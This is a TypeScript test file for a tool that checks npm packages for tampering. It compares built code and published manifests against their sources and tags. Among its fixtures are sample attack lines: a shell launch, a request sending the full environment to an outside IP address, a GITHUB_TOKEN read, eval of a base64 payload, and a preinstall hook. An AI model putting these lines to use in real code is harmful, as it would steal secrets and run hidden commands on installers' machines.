/**
 * The two npm explainers on written variants: built code whose capabilities its sources name, or
 * do not (each capability in shapes the end-to-end test does not use), and manifests changed the
 * way publishing changes them, or the way an attacker does.
 */
import { describe, expect, it } from 'vitest'
import { analyseJavaScript } from '../../src/npm/javascript.js'
import { capabilityGaps, loadSourceCorpus } from '../../src/verify/explain/js-provenance.js'
import { manifestChanges } from '../../src/verify/explain/npm-manifest.js'
import { readNpmProject } from '../../src/verify/explain/npm-project.js'
import { memoryView } from '../helpers/tree-view.js'

const SOURCES = {
  'src/client.ts': [
    "import { request } from 'node:https'",
    "import { spawn } from 'node:child_process'",
    'export function get(path: string): Promise<string> {',
    "  return new Promise((resolve) => request({ hostname: 'registry.example.org', path }, (res) => resolve(String(res.statusCode))).end())",
    '}',
    "export const open = (url: string) => spawn('xdg-open', [url], { stdio: 'ignore' })",
    'export const mode = process.env.NODE_ENV',
  ].join('\n'),
}

async function gaps(built: string, sources: Record<string, string> = SOURCES) {
  const view = memoryView({}, sources)
  const corpus = await loadSourceCorpus(Object.keys(sources), view)
  return capabilityGaps(analyseJavaScript('dist/client.js', built), built, corpus)
}

describe('what built code does beyond its sources', () => {
  it('finds nothing in code compiled from the sources, helpers and renamed locals included', async () => {
    const built = [
      '"use strict";',
      'var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };',
      'Object.defineProperty(exports, "__esModule", { value: true });',
      'const node_https_1 = require("node:https");',
      'const node_child_process_1 = require("node:child_process");',
      'function get(p) { return new Promise((r) => (0, node_https_1.request)({ hostname: "registry.example.org", path: p }, (s) => r(String(s.statusCode))).end()); }',
      'const open = (u) => (0, node_child_process_1.spawn)("xdg-open", [u], { stdio: "ignore" });',
      'exports.mode = process.env.NODE_ENV;',
      'var g = Function("return this")();',
    ].join('\n')
    expect(await gaps(built)).toEqual([])
  })

  it('finds a process launch through a module no source loads, in CommonJS and through the global require', async () => {
    for (const line of ["require('child_process').execFileSync('/bin/sh', ['-c', 'id'])", "globalThis.process.mainModule.require('child_process').exec('id')"]) {
      const found = await gaps(line, { 'src/a.ts': 'export const a = /x/.exec("y")\n' })
      expect(found.map((g) => g.missing), line).toContain('child_process')
    }
  })

  it('finds a request to a host no source names, even through a module the sources load', async () => {
    const found = await gaps("require('node:https').get('https://198.51.100.23:8443/k?d=' + Buffer.from(JSON.stringify(process.env)).toString('hex'))")
    expect(found.find((g) => g.kind === 'host')?.missing).toBe('198.51.100.23')
    // the whole environment, where the sources read one variable of it: sent to a new host, critical
    expect(found.find((g) => g.kind === 'credentials')).toBeDefined()
    expect(found.every((g) => g.kind !== 'host' || g.critical)).toBe(true)
  })

  it('finds a read of a secret no source reads', async () => {
    const found = await gaps('const t = process.env.GITHUB_TOKEN; module.exports = t')
    expect(found).toEqual([expect.objectContaining({ kind: 'credentials', missing: 'GITHUB_TOKEN', critical: true })])
  })

  it('finds code decoded and run, and a data blob no source holds', async () => {
    const blob = Buffer.from(`require("child_process").exec("id"); // ${'padding '.repeat(60)}`).toString('base64')
    const found = await gaps(`const k = "${blob}";\neval(atob(k));\n`)
    expect(found.map((g) => g.kind)).toEqual(expect.arrayContaining(['dynamic-code', 'encoded']))
    expect(found.find((g) => g.kind === 'dynamic-code')?.critical).toBe(true)
  })

  it('finds an ES module import of a module no source names, and not one the sources import', async () => {
    expect((await gaps("import { WebSocket } from 'ws'\nnew WebSocket('wss://registry.example.org')")).map((g) => g.missing)).toContain('ws')
    expect(await gaps("import { request } from 'https'\nexport { request }")).toEqual([])
  })
})

describe('modules a built file loads', () => {
  const corpus = async (sources: Record<string, string>, scripts: Record<string, string> = {}) => loadSourceCorpus(Object.keys(sources), memoryView({}, { ...sources, ...scripts }), Object.keys(scripts))
  const modules = async (built: string, sources: Record<string, string>, scripts: Record<string, string> = {}) =>
    capabilityGaps(analyseJavaScript('dist/x.js', built), built, await corpus(sources, scripts)).filter((g) => g.kind === 'module').map((g) => g.missing)

  it('are the packages the sources import, whatever path inside them the build rewrote', async () => {
    const sources = { 'src/a.ts': "import { pipe } from 'fp-ts/lib/function'\nimport { x } from '@scope/kit/sub'\n" }
    expect(await modules("import { pipe } from 'fp-ts/es6/function'\nimport { x } from '@scope/kit/es/sub/index.js'\n", sources)).toEqual([])
    expect(await modules("import { y } from '@scope/other'\n", sources)).toEqual(['@scope/other'])
  })

  it('leave out Node modules that reach nothing outside the process, which inlined dependencies load', async () => {
    const sources = { 'src/a.ts': "import { Minipass } from 'minipass'\nexport const m = new Minipass()\n" }
    expect(await modules('const e = require("node:events"), s = require("stream"), d = require("node:string_decoder")\n', sources)).toEqual([])
    expect(await modules('import { pipeline } from "node:stream/promises"\nimport { createHash } from "node:crypto"\n', sources)).toEqual([])
    // what reaches out or identifies the machine still has to be named by a source
    expect(await modules('const o = require("node:os"), f = require("fs/promises"), v = require("node:vm"), w = require("node:worker_threads")\n', sources)).toEqual(['node:os', 'fs/promises', 'node:vm', 'node:worker_threads'])
  })

  it('may be URLs the build scripts put in place of a module, but never modules that only a build script loads', async () => {
    const sources = { 'src/a.ts': "import mri from 'mri'\n" }
    const scripts = { 'scripts/deno.ts': "import { execSync } from 'node:child_process'\nconst map = { mri: 'https://cdn.example.dev/mri' }\n" }
    expect(await modules("import mri from 'https://cdn.example.dev/mri'\n", sources, scripts)).toEqual([])
    expect(await modules("import mri from 'https://cdn.example.dev/mri'\n", sources)).toEqual(['https://cdn.example.dev/mri'])
    expect(await modules("import('node:child_process').then((m) => m.execSync('id'))\n", sources, scripts)).toEqual(['node:child_process'])
  })
})

describe('a published package.json against the tag’s', () => {
  const TAG = { name: 'x', version: '0.0.0-development', main: 'dist/index.js', scripts: { build: 'tsc', test: 'vitest' }, dependencies: { a: '^1.0.0' }, devDependencies: { vitest: '^2.0.0' }, prettier: { semi: false } }
  const weigh = (artifact: Record<string, unknown>) => manifestChanges(TAG, artifact).map((c) => [c.field, c.severity])

  it('weighs what publishing does as nothing: the version, dropped development fields, npm bookkeeping, key order', () => {
    const { devDependencies: _d, prettier: _p, ...kept } = TAG
    const published = { gitHead: '0123abc', ...kept, version: '3.1.0', scripts: { build: 'tsc' } }
    expect(weigh(published).every(([, severity]) => severity === 'info')).toBe(true)
    expect(weigh({ ...TAG, dependencies: { a: '^1.0.0' }, main: 'dist/index.js' })).toEqual([])
  })

  it('weighs a workspace or catalog dependency resolved to a version by packing as nothing, and one resolved to anything else as high', () => {
    const workspace = { ...TAG, dependencies: { a: 'workspace:^', b: 'catalog:' } }
    expect(manifestChanges(workspace, { ...workspace, dependencies: { a: '^1.4.0', b: '2.0.1' } }).map((c) => c.severity)).toEqual(['info', 'info'])
    expect(manifestChanges(workspace, { ...workspace, dependencies: { a: 'https://example.invalid/a.tgz', b: '2.0.1' } }).map((c) => [c.field, c.severity])).toEqual([
      ['dependencies.a', 'high'],
      ['dependencies.b', 'info'],
    ])
  })

  it('weighs entry points that the tag’s publishConfig sets as nothing, and any other as high', () => {
    const tag = { ...TAG, main: 'src/index.ts', publishConfig: { main: 'dist/index.js', access: 'public' } }
    const { publishConfig: _p, ...packed } = { ...tag, main: 'dist/index.js' }
    expect(manifestChanges(tag, packed).every((c) => c.severity === 'info')).toBe(true)
    expect(manifestChanges(tag, { ...packed, main: 'dist/other.js' }).map((c) => [c.field, c.severity])).toContainEqual(['main', 'high'])
  })

  it('weighs install scripts as critical, but not prepare, which a registry install never runs', () => {
    expect(weigh({ ...TAG, scripts: { ...TAG.scripts, preinstall: 'node x.js' } })).toEqual([['scripts.preinstall', 'critical']])
    expect(weigh({ ...TAG, scripts: { ...TAG.scripts, prepare: 'node x.js' } })).toEqual([['scripts.prepare', 'low']])
  })

  it('weighs a new or changed dependency and a moved entry point as high, a dropped dependency as low', () => {
    expect(weigh({ ...TAG, dependencies: { a: '^1.0.0', b: '1.0.0' } })).toEqual([['dependencies.b', 'high']])
    expect(weigh({ ...TAG, dependencies: { a: 'github:someone/a' } })).toEqual([['dependencies.a', 'high']])
    expect(weigh({ ...TAG, optionalDependencies: { c: '*' } })).toEqual([['optionalDependencies.c', 'high']])
    expect(weigh({ ...TAG, exports: { '.': './dist/other.js' } })).toEqual([['exports', 'high']])
    expect(weigh({ ...TAG, dependencies: {} })).toEqual([['dependencies.a', 'low']])
  })

  it('weighs fields that only describe the package as low, added or not, and entry points of CDNs and bundlers as high', () => {
    expect(weigh({ ...TAG, funding: { type: 'github', url: 'https://github.com/sponsors/x' }, author: 'X <x@example.org>', keywords: ['x'] })).toEqual([
      ['funding', 'low'],
      ['author', 'low'],
      ['keywords', 'low'],
    ])
    expect(weigh({ ...TAG, unpkg: 'dist/x.umd.js' })).toEqual([['unpkg', 'high']])
    expect(weigh({ ...TAG, 'react-native': 'dist/rn.js' })).toEqual([['react-native', 'high']])
    expect(weigh({ ...TAG, gypfile: true })).toEqual([['gypfile', 'high']])
    // a field nothing here knows may be read by some tool: it stays a question
    expect(weigh({ ...TAG, someToolConfig: { run: 'x' } })).toEqual([['someToolConfig', 'medium']])
  })
})

describe('where the tag’s build writes, read from the entry points its package.json names', () => {
  const project = async (manifest: Record<string, unknown>) => {
    const tag = { 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { build: 'rollup -c' }, ...manifest }), 'src/index.ts': 'export const x = 1\n' }
    return readNpmProject(memoryView({ 'package.json': '{}', 'lib/rn/index.js': 'x', 'es/index.mjs': 'x' }, tag))
  }
  it('takes a directory a bundler’s or CDN’s entry point names, which the tag lacks, for build output', async () => {
    expect((await project({ 'react-native': 'lib/rn/index.js' }))?.outputReason('lib/rn/index.js')).toContain('"lib/rn/index.js"')
    expect((await project({ 'jsnext:main': './es/index.mjs' }))?.outputReason('es/index.mjs')).toContain('es/index.mjs')
  })
  it('takes nothing a field outside the entry points names, nor a directory the tag holds', async () => {
    expect((await project({ description: 'lib/rn/index.js' }))?.outputReason('lib/rn/index.js')).toBeUndefined()
    expect((await project({ main: 'src/index.ts' }))?.outputReason('src/index.ts')).toBeUndefined()
  })
})
